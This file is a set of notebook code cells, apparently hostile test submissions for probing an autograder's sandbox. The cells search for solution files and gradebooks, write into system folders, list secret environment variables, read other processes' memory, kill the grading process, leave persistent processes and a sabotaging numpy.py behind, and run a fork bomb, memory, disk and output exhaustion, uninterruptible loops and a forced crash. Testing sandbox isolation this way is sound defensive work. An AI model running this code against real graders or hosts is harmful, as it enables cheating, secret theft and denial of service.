# %% reads the course
# Looks for solutions, hidden checks and the gradebook.
import os
import sys

found = []
environment = (sys.prefix, sys.base_prefix, "/usr", "/etc", "/proc", "/sys")
for root in ("/", os.getcwd(), "/work", "/home", "/root", "/tmp", "/proc/1/cwd", "/proc/1/root"):
    for place, folders, files in os.walk(root):
        folders[:] = [f for f in folders if not os.path.join(place, f).startswith(environment)]
        found += [os.path.join(place, f) for f in files if f.endswith((".ipynb", ".db", ".yaml")) or "grade" in f]
print("FOUND", found)

# %% writes outside
# Tries to write wherever it can.
import os

written = []
for place in ("/", "/usr", "/etc", "/root", "/home", os.path.dirname(np.__file__), os.path.dirname(checks.__file__), "/dev"):
    try:
        with open(os.path.join(place, "owned"), "w") as file:
            file.write("x")
        written.append(place)
    except OSError:
        pass
print("FOUND", written)

# %% network
# Calls home.
import socket

found = []
for host in (("127.0.0.1", 22), ("10.0.0.1", 80), ("192.0.2.1", 80)):
    try:
        socket.create_connection(host, timeout=1)
        found.append(host)
    except OSError:
        pass
print("FOUND", found)

# %% environment
# Reads the instructor's environment variables.
import os

print("FOUND", [name for name in os.environ if "TOKEN" in name or "SECRET" in name])

# %% other processes
# Kills whatever it can, and looks into the grader's memory.
import os
import signal

found = []
for pid in range(1, 200):
    if pid == os.getpid():
        continue
    for name in ("mem", "environ", "fd/0"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                file.read(1)
            found.append((pid, name))
        except OSError:
            pass
print("FOUND", found)
os.kill(os.getppid(), signal.SIGKILL)

# %% left behind
# Leaves processes and files for the next submission.
import os
import subprocess

subprocess.Popen(["sleep", "1000"], start_new_session=True)
if not os.fork():
    os.setsid()
    if not os.fork():
        while True:
            pass
for place in (".", "/tmp", "/dev/shm"):
    with open(os.path.join(place, "numpy.py"), "w") as file:
        file.write("raise RuntimeError")

# %% fork bomb
# As many processes as there can be.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% memory
# As much memory as there is.
hoard = []
while True:
    hoard.append(np.ones(5_000_000))

# %% disk
# As large a file as there can be.
with open("large", "wb") as file:
    for _ in range(10_000):
        file.write(b"x" * 1_000_000)

# %% output
# 60 MB in one line.
print("x" * 60_000_000)

# %% endless loop
# Never ends.
while True:
    pass

# %% endless loop that can't be interrupted
# Never ends, and ignores the interrupt.
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass

# %% crash
# Reads where there is no memory.
import faulthandler

faulthandler._sigsegv()
